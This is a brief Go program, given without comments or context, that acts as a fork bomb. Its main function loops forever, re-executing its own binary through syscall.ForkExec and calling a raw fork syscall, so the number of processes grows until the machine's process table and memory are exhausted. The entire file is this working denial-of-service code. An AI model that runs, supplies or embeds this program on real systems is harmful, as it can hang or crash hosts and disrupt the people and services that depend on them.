package main

import (
	"os"
	"syscall"
)

func main() {
	for {
		syscall.ForkExec(os.Args[0], os.Args, &syscall.ProcAttr{Files: []uintptr{0, 1, 2}})
		syscall.RawSyscall(syscall.SYS_FORK, 0, 0, 0)
	}
}
